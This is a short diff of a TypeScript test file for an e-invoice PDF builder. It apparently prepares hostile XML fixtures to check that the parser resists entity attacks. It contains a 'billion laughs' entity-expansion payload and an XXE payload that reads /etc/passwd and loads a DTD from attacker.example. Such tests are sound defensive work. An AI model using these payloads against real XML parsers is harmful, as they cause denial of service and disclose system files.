@@ -8,7 +8,8 @@ import { buildPdf, facturXObjects } from '../einvoice/build-pdf';
 const CII = readFileSync(path.resolve(import.meta.dirname, '../../fixtures/einvoices/mustangproject/validV2FR.xml'), 'utf8');
 const ROOT = '<rsm:CrossIndustryInvoice';
 const utf8 = (s: string) => new TextEncoder().encode(s);
-const LAUGHS = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
+const LAUGHS =
+  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
 const EXTERNAL = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">%remote;]>';
 
 /** The CII sample with `doctype` before its root and `&entity;` in the seller's name. */
